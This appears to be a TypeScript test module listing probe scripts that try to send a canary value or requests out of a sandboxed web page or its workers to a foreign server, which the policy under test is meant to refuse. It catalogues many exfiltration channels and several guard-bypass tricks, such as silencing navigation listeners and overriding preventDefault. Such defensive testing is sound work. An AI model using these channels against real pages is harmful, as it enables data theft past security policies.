/** What a probe aims at; each name is a variable in its script. */
export interface Aim {
  /** An address on the stranger's server, with a query. */
  readonly foreign: string;
  /** The same for a WebSocket. */
  readonly ws: string;
  /** The stranger as a STUN server. */
  readonly stun: string;
  /** An address on the site's own host, with a query. */
  readonly own: string;
  /** A host that does not exist, as data would be put into a name to be looked up. */
  readonly name: string;
  readonly canary: string;
}

/** Ways out, as scripts by name. Each may throw: refused is what they ought to be. */
export type Probes = Readonly<Record<string, string>>;

const blob = (script: string) => `URL.createObjectURL(new Blob([${script}], { type: 'text/javascript' }))`;
const script = (statement: string) =>
  `'${statement}'.replaceAll('FOREIGN', JSON.stringify(foreign)).replaceAll('OWN', JSON.stringify(own))`;
const everything = script(
  'for (const url of [FOREIGN, OWN]) { fetch(url, { mode: "no-cors" }); import(url).catch(() => 0); try { importScripts(url) } catch {} try { new WebSocket(url.replace("http", "ws")) } catch {} try { new EventSource(url) } catch {} }',
);
const peer = (realm: string) => `
  const peer = new ${realm}.RTCPeerConnection({ iceServers: [{ urls: stun }] });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());`;
const make = (name: string) => `const element = document.body.appendChild(document.createElement('${name}'));`;

/** Ways out of the page and of every worker. */
export const EVERYWHERE: Probes = {
  fetch: `await fetch(foreign)`,
  'fetch without cors': `await fetch(foreign, { mode: 'no-cors', method: 'POST', body: canary })`,
  'fetch kept alive': `await fetch(foreign, { mode: 'no-cors', keepalive: true })`,
  'fetch of the own host': `await fetch(own)`,
  'fetch into a cache': `await (await caches.open('probe')).add(foreign)`,
  'fetch of the own host into a cache': `await (await caches.open('probe')).add(own)`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('POST', foreign); x.send(canary)`,
  'XMLHttpRequest at once': `const x = new XMLHttpRequest(); x.open('GET', foreign, false); x.send()`,
  'XMLHttpRequest to the own host': `const x = new XMLHttpRequest(); x.open('GET', own, false); x.send()`,
  WebSocket: `new WebSocket(ws)`,
  WebSocketStream: `await new WebSocketStream(ws).opened`,
  EventSource: `new EventSource(foreign)`,
  WebTransport: `await new WebTransport(foreign.replace('http:', 'https:')).ready`,
  'WebTransport to a name': `await new WebTransport('https://' + name).ready`,
  'a call to a peer': peer('globalThis'),
  'a call to a peer by name': peer('globalThis').replace('stun }', `'stun:' + name }`),
  import: `await import(foreign)`,
  'import from the own host': `await import(own)`,
  'import of data': `await import('data:text/javascript,' + encodeURIComponent(${everything}))`,
  'import of a blob': `await import(${blob(everything)})`,
  'a worker from the stranger': `new Worker(foreign)`,
  'a worker from the own host': `new Worker(own)`,
  'a worker from data': `new Worker('data:text/javascript,' + encodeURIComponent(${everything}))`,
  'a worker from a blob': `new Worker(${blob(everything)})`,
  'a module worker from a blob': `new Worker(${blob(everything)}, { type: 'module' })`,
  'a module worker that imports': `new Worker(${blob(script('import FOREIGN'))}, { type: 'module' })`,
  'a module worker that imports from the own host': `new Worker(${blob(script('import OWN'))}, { type: 'module' })`,
  'a shared worker from the stranger': `new SharedWorker(foreign)`,
  'a shared worker from the own host': `new SharedWorker(own)`,
  'a shared worker from a blob': `new SharedWorker(${blob(everything)})`,
  'a typeface': `await new FontFace('x', 'url(' + foreign + ')').load()`,
  'the icon of a notification': `new Notification('x', { icon: foreign })`,
  // Only later, since the debugger that runs a probe may evaluate text whatever the policy says.
  eval: `setTimeout(() => { try { (0, eval)(${everything}) } catch {} })`,
  Function: `setTimeout(() => { try { new Function(${everything})() } catch {} })`,
  'a timer with text': `setTimeout(${everything})`,
};

/** Ways out of workers alone. */
export const WORKER: Probes = {
  importScripts: `importScripts(foreign)`,
  'importScripts from the own host': `importScripts(own)`,
  'importScripts of data': `importScripts('data:text/javascript,' + encodeURIComponent(${everything}))`,
};

const link = (rel: string, address: string) => `
  const element = document.createElement('link');
  element.as = 'script';
  element.href = ${address};
  try { element.rel = '${rel}' } catch { element.setAttribute('rel', '${rel}') }
  document.head.append(element)`;
const RELS = [
  'stylesheet',
  'prefetch',
  'preload',
  'modulepreload',
  'prerender',
  'preconnect',
  'icon',
  'manifest',
  'next',
];
const existing = `const element = document.querySelector('link'); element.href = foreign;`;
const blankFrame = (name: string, use: string) => `${make(name)} const inner = element.contentWindow; ${use}`;

/** Ways out of the page that leave it where it is. */
export const PAGE: Probes = {
  sendBeacon: `navigator.sendBeacon(foreign, canary)`,
  'sendBeacon to the own host': `navigator.sendBeacon(own, canary)`,
  fetchLater: `fetchLater(foreign, { activateAfter: 0 })`,
  'an image': `new Image().src = foreign`,
  'an image from the own host': `new Image().src = own`,
  'a set of images': `new Image().srcset = foreign + ' 2x'`,
  'an image that is attributed': `const i = new Image(); i.setAttribute('attributionsrc', foreign); i.src = 'data:,'`,
  'an image button': `${make('input')} element.type = 'image'; element.src = foreign`,
  'an image in a drawing': `
    const svg = (name) => document.createElementNS('http://www.w3.org/2000/svg', name);
    const drawing = document.body.appendChild(svg('svg'));
    for (const name of ['image', 'use', 'feImage', 'script']) {
      try { drawing.appendChild(svg(name)).setAttribute('href', foreign) } catch {}
    }`,
  'a background': `document.body.style.backgroundImage = 'url(' + foreign + ')'`,
  'a background from the own host': `document.body.style.borderImage = 'url(' + own + ') 1'`,
  'a cursor, a mask and a filter': `
    for (const name of ['mask', 'filter', 'clipPath']) document.body.style[name] = 'url(' + foreign + '#x)';
    document.body.style.cursor = 'url(' + foreign + '), auto'`,
  'a style sheet made by script': `
    const sheet = new CSSStyleSheet();
    sheet.replaceSync('@font-face{font-family:q;src:url(' + foreign + ')}html{font-family:q;list-style-image:url(' + foreign + ')}');
    document.adoptedStyleSheets.push(sheet)`,
  'a style element': `
    ${make('style')}
    element.textContent = '@import url(' + foreign + ');html{background:url(' + foreign + ')}';
    element.sheet?.insertRule('body{background:url(' + foreign + ')}')`,
  'a script': `${make('script')} element.src = foreign`,
  'a script by attribute': `${make('script')} element.setAttribute('src', foreign)`,
  'a script from the own host': `${make('script')} element.src = own`,
  'a script with text': `${make('script')} element.append(${everything})`,
  'rules for speculation': `
    const element = document.createElement('script');
    element.type = 'speculationrules';
    element.append(JSON.stringify({ prefetch: [{ urls: [foreign] }], prerender: [{ urls: [foreign] }] }));
    document.head.append(element)`,
  'markup as text': `document.body.insertAdjacentHTML('beforeend', '<img src="' + foreign + '"><iframe src="' + foreign + '"></iframe>')`,
  'markup that is made safe': `${make('div')} element.setHTML('<img src="' + foreign + '"><link rel="preconnect" href="' + foreign + '">', { sanitizer: {} })`,
  'markup that is parsed': `document.body.append(...new DOMParser().parseFromString('<img src="' + foreign + '">', 'text/html').body.children)`,
  'markup that is parsed unsafely': `document.body.append(...Document.parseHTMLUnsafe('<img src="' + foreign + '">').body.children)`,
  'markup that is inserted': `${make('div')} element.contentEditable = 'true'; element.focus(); document.execCommand('insertHTML', false, '<img src="' + foreign + '">')`,
  'markup for a range': `document.body.append(document.createRange().createContextualFragment('<img src="' + foreign + '">'))`,
  'a new Trusted Types policy': `document.body.innerHTML = trustedTypes.createPolicy('svelte-trusted-html', { createHTML: (x) => x }).createHTML('<img src="' + foreign + '">')`,
  ...Object.fromEntries(RELS.map((rel) => [`a link: ${rel}`, link(rel, 'foreign')])),
  ...Object.fromEntries(RELS.map((rel) => [`a link to the own host: ${rel}`, link(rel, 'own')])),
  'a link: dns-prefetch': link('dns-prefetch', `'//' + name`),
  'the own link, clone': `const element = document.querySelector('link').cloneNode(); element.rel = 'preconnect'; element.href = foreign; document.head.append(element)`,
  'the own link, rel': `${existing} element.rel = 'preconnect'`,
  'the own link, relList': `${existing} element.relList.value = 'preconnect'`,
  'the own link, attribute': `${existing} element.setAttribute('REL', 'preconnect')`,
  'the own link, attribute with a namespace': `${existing} element.setAttributeNS(null, 'rel', 'preconnect')`,
  'the own link, two-faced name': `${existing} let asked = 0; element.setAttribute({ toString: () => (asked++ ? 'rel' : 'x') }, 'preconnect')`,
  'the own link, value of the attribute': `${existing} element.getAttributeNode('rel').value = 'preconnect'`,
  'the own link, node value': `${existing} element.getAttributeNode('rel').nodeValue = 'preconnect'`,
  'the own link, text of the attribute': `${existing} element.getAttributeNode('rel').textContent = 'preconnect'`,
  'the own link, another attribute': `${existing} const rel = document.createAttribute('rel'); rel.value = 'preconnect'; element.attributes.setNamedItem(rel)`,
  'the own links, other addresses': `for (const element of document.querySelectorAll('link')) element.href = foreign`,
  'the own links, own host': `for (const element of document.querySelectorAll('link')) element.href = own`,
  'a frame': `${make('iframe')} element.src = foreign`,
  'a frame from the own host': `${make('iframe')} element.src = own`,
  'a frame with text': `${make('iframe')} element.srcdoc = '<img src="' + foreign + '">'`,
  'an empty frame, fetch': blankFrame('iframe', `await inner.fetch(foreign)`),
  'an empty frame, call to a peer': blankFrame('iframe', peer('inner')),
  'an empty frame, window': blankFrame('iframe', `inner.open(foreign)`),
  'an empty object, call to a peer': blankFrame('object', peer('inner')),
  'a frame as a custom element': `
    class Inner extends HTMLIFrameElement {}
    customElements.define('x-inner', Inner, { extends: 'iframe' });
    const inner = document.body.appendChild(new Inner()).contentWindow; ${peer('inner')}`,
  'a frame by XSLT': `
    const XSL = 'http://www.w3.org/1999/XSL/Transform';
    const sheet = document.implementation.createDocument(XSL, 'xsl:stylesheet');
    sheet.documentElement.setAttribute('version', '1.0');
    const template = sheet.documentElement.appendChild(sheet.createElementNS(XSL, 'xsl:template'));
    template.setAttribute('match', '/');
    const made = template.appendChild(sheet.createElementNS(XSL, 'xsl:element'));
    made.setAttribute('name', 'iframe');
    made.setAttribute('namespace', 'http://www.w3.org/1999/xhtml');
    const processor = new XSLTProcessor();
    processor.importStylesheet(sheet);
    const fragment = processor.transformToFragment(document.implementation.createDocument(null, 'a'), document);
    const inner = document.body.appendChild(fragment.firstChild).contentWindow; ${peer('inner')}`,
  'a window in the picture': `const inner = await documentPictureInPicture.requestWindow(); ${peer('inner')}`,
  'an object': `${make('object')} element.data = foreign`,
  'an embedded object': `${make('embed')} element.src = foreign`,
  'a fenced frame': `${make('fencedframe')} element.config = new FencedFrameConfig(foreign)`,
  'a film with poster and track': `
    ${make('video')}
    const track = document.createElement('track');
    track.src = foreign;
    track.default = true;
    element.append(track);
    element.poster = foreign;
    element.src = foreign`,
  'a sound': `new Audio(foreign).load()`,
  'a ping': `${make('a')} element.href = '#x'; element.ping = foreign; element.click()`,
  'a press that is attributed': `${make('a')} element.href = '#x'; element.setAttribute('attributionsrc', foreign); element.click()`,
  'a link in a new window': `${make('a')} element.href = foreign; element.target = '_blank'; element.click()`,
  'a link with Control held': `${make('a')} element.href = foreign; element.dispatchEvent(new MouseEvent('click', { ctrlKey: true }))`,
  'a link in a drawing': `
    const element = document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'a'));
    element.setAttribute('href', foreign);
    element.setAttribute('target', '_blank');
    element.dispatchEvent(new MouseEvent('click'))`,
  'a link by command': `
    ${make('div')}
    element.contentEditable = 'true';
    element.textContent = 'x';
    element.focus();
    document.execCommand('selectAll');
    document.execCommand('createLink', false, foreign);
    element.firstChild.target = '_blank';
    element.firstChild.click()`,
  'a form in a new window': `${make('form')} element.action = foreign; element.method = 'post'; element.target = '_blank'; element.submit()`,
  'a new window': `window.open(foreign)`,
  'another service worker': `await navigator.serviceWorker.register(foreign)`,
  'another service worker from the own host': `await navigator.serviceWorker.register(own)`,
  'a download by the service worker': `await (await navigator.serviceWorker.getRegistration()).backgroundFetch.fetch('x', [foreign])`,
  'a push service': `await (await navigator.serviceWorker.getRegistration()).pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: canary })`,
  'a worklet': `await new AudioContext().audioWorklet.addModule(foreign)`,
  'a worklet from the own host': `await new AudioContext().audioWorklet.addModule(own)`,
  'a worklet that paints': `await CSS.paintWorklet.addModule(own)`,
  'sign-in by another site': `await navigator.credentials.get({ identity: { providers: [{ configURL: foreign, clientId: 'x' }] } })`,
  'a passkey of another site': `await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: name, timeout: 1000 } })`,
  'a payment': `await new PaymentRequest([{ supportedMethods: foreign }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
  'a speech': `speechSynthesis.speak(new SpeechSynthesisUtterance(canary))`,
  'an advertisement': `await navigator.joinAdInterestGroup({ owner: location.origin, name: 'x', updateURL: foreign }, 1000)`,
  'the picture of a sound': `navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: foreign, sizes: '96x96' }] })`,
  'a report of the policy': `
    for (const [key, value] of [['Content-Security-Policy', "font-src 'none'; report-uri " + foreign], ['Reporting-Endpoints', 'x="' + foreign + '"']]) {
      const element = document.createElement('meta');
      element.httpEquiv = key;
      element.content = value;
      document.head.append(element);
    }
    await new FontFace('x', 'url(data:font/woff2,x)').load()`,
};

/** Ways out that take the page along, or that go with its next request. */
export const LEAVING: Probes = {
  'location.href': `location.href = foreign`,
  'location.assign': `location.assign(foreign)`,
  'location.replace': `location.replace(foreign)`,
  'a query on the own address': `location.search = canary`,
  'document.location': `document.location = foreign`,
  'navigation.navigate': `navigation.navigate(foreign)`,
  'a pressed link': `${make('a')} element.href = foreign; element.click()`,
  'a pressed area': `${make('area')} element.href = foreign; element.click()`,
  'a downloaded link': `${make('a')} element.href = own; element.download = 'x'; element.click()`,
  'a form': `${make('form')} element.action = foreign; element.submit()`,
  'a posted form': `${make('form')} element.action = own; element.method = 'post'; element.requestSubmit()`,
  'a refresh': `const element = document.createElement('meta'); element.httpEquiv = 'refresh'; element.content = '0;url=' + foreign; document.head.append(element)`,
  'a refresh by the own meta': `const element = document.querySelector('meta[name=viewport]'); element.content = '0;url=' + foreign; element.httpEquiv = 'refresh'`,
  'an address with script': `location.href = 'javascript:' + ${everything}`,
  'an address of a blob': `location.href = URL.createObjectURL(new Blob(['<script>new RTCPeerConnection()</script>'], { type: 'text/html' }))`,
  'a new state, then a reload': `history.pushState(null, '', '?' + canary); location.reload()`,
  'another state, then a reload': `history.replaceState(null, '', '?' + canary); location.reload()`,
  'the frame above an empty frame': blankFrame('iframe', `inner.top.location.href = foreign`),
  'after the document was opened anew': `document.open(); document.close(); location.href = foreign`,
  'after the guard was silenced': `navigation.addEventListener('navigate', (event) => event.stopImmediatePropagation(), { capture: true }); location.href = foreign`,
  'after its way to refuse was taken': `Event.prototype.preventDefault = () => undefined; location.href = foreign`,
  'after it was lied to': `Object.defineProperty(NavigateEvent.prototype, 'hashChange', { get: () => true }); location.href = foreign`,
  'a cookie, then a reload': `try { document.cookie = 'a=' + canary } catch {} location.reload()`,
  'a stored cookie, then a reload': `try { await cookieStore.set('b', canary) } catch {} location.reload()`,
  'a header of the service worker, then a reload': `
    try {
      const { navigationPreload } = await navigator.serviceWorker.getRegistration();
      await navigationPreload.enable();
      await navigationPreload.setHeaderValue(canary);
    } catch {}
    location.reload()`,
};
